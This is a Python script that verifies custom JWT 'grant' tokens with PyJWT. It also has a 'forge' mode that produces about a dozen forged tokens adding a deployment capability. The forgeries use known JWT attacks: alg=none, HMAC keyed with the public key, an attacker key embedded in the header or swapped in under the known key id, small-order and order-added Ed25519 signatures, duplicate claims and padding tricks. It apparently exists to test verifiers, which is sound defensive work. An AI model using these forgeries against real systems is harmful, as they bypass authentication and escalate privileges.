#!/usr/bin/env python3
"""Grants as a stock JWT library reads them, and forgeries as an attacker would make them.

    grants.py verify JWKS_FILE [--head OID] [--capability NAME] < TOKEN
    grants.py forge JWKS_FILE < TOKEN

`verify` prints the claims as JSON, or the name of the library's error and ends with 1. `forge` prints a JSON object of tokens
that look like the one given, by what was done to them.
"""

import argparse
import base64
import hashlib
import hmac
import json
import pathlib
import sys

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

TYPE = "difftier-grant+jwt"


def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def compact(value):
    return json.dumps(value, separators=(",", ":")).encode()


def verify(arguments, token):
    """Uses the library's own key set, header and claim checks, and adds what a grant means."""
    keys = jwt.PyJWKSet.from_json(arguments.jwks.read_text())
    header = jwt.get_unverified_header(token)
    if header.get("typ") != TYPE:
        raise jwt.InvalidTokenError("not a grant")
    key = next(key for key in keys.keys if key.key_id == header["kid"])
    claims = jwt.decode(
        token, key.key, algorithms=["EdDSA"], leeway=arguments.leeway,
        options={"require": ["exp", "nbf", "iat", "jti", "iss", "sub"]})
    if arguments.head and claims["head"] != arguments.head:
        raise jwt.InvalidTokenError("another head")
    if arguments.capability and arguments.capability not in claims["capabilities"]:
        raise jwt.InvalidTokenError("not granted")
    return claims


def forge(arguments, token):
    jwk = json.loads(arguments.jwks.read_text())["keys"][0]
    public = decode(jwk["x"])
    head, body, signature = token.split(".")
    header, claims = json.loads(decode(head)), json.loads(decode(body))
    wider = dict(claims, capabilities=claims["capabilities"] + ["deploy_environment"])

    def signed(header, payload, sign):
        message = f"{encode(compact(header))}.{encode(payload)}".encode()
        return f"{message.decode()}.{encode(sign(message))}"

    def by_secret(secret):
        return lambda message: hmac.new(secret, message, hashlib.sha256).digest()

    own = ed25519.Ed25519PrivateKey.generate()
    own_x = encode(own.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw))
    pem = ed25519.Ed25519PublicKey.from_public_bytes(public).public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    elliptic = ec.generate_private_key(ec.SECP256R1())
    classic = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    same = {"kid": header["kid"], "typ": TYPE}
    order = 2**252 + 27742317777372353535851937790883648493
    raw = decode(signature)
    stretched = raw[:32] + (int.from_bytes(raw[32:], "little") + order).to_bytes(32, "little")
    return {
        "wider claims under the old signature": f"{head}.{encode(compact(wider))}.{signature}",
        "no algorithm": signed(dict(same, alg="none"), compact(wider), lambda _: b""),
        "hmac with the raw public key": signed(dict(same, alg="HS256"), compact(wider), by_secret(public)),
        "hmac with the public key in PEM": signed(dict(same, alg="HS256"), compact(wider), by_secret(pem)),
        "another key under the known id": jwt.encode(wider, own, algorithm="EdDSA", headers=same),
        "another key in the header": jwt.encode(
            wider, own, algorithm="EdDSA", headers=dict(same, jwk={"kty": "OKP", "crv": "Ed25519", "x": own_x})),
        "an elliptic curve": jwt.encode(wider, elliptic, algorithm="ES256", headers=same),
        "rsa": jwt.encode(wider, classic, algorithm="RS256", headers=same),
        "the point of small order as a signature": f"{head}.{encode(compact(wider))}.{encode(bytes([1]) + bytes(63))}",
        "the signature plus the group's order": f"{head}.{body}.{encode(stretched)}",
        "padding behind the signature": token + "=",
        "a claim twice": f"{head}.{encode(compact(claims)[:-1] + b',' + compact(wider)[1:])}.{signature}",
        "the signature of the header alone": f"{head}..{signature}",
    }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("action", choices=["verify", "forge"])
    parser.add_argument("jwks", type=pathlib.Path)
    parser.add_argument("--head")
    parser.add_argument("--capability")
    parser.add_argument("--leeway", type=int, default=0)
    arguments = parser.parse_args()
    token = sys.stdin.read().strip()
    try:
        print(json.dumps((verify if arguments.action == "verify" else forge)(arguments, token)))
    except (jwt.PyJWTError, StopIteration) as error:
        print(type(error).__name__)
        sys.exit(1)


if __name__ == "__main__":
    main()
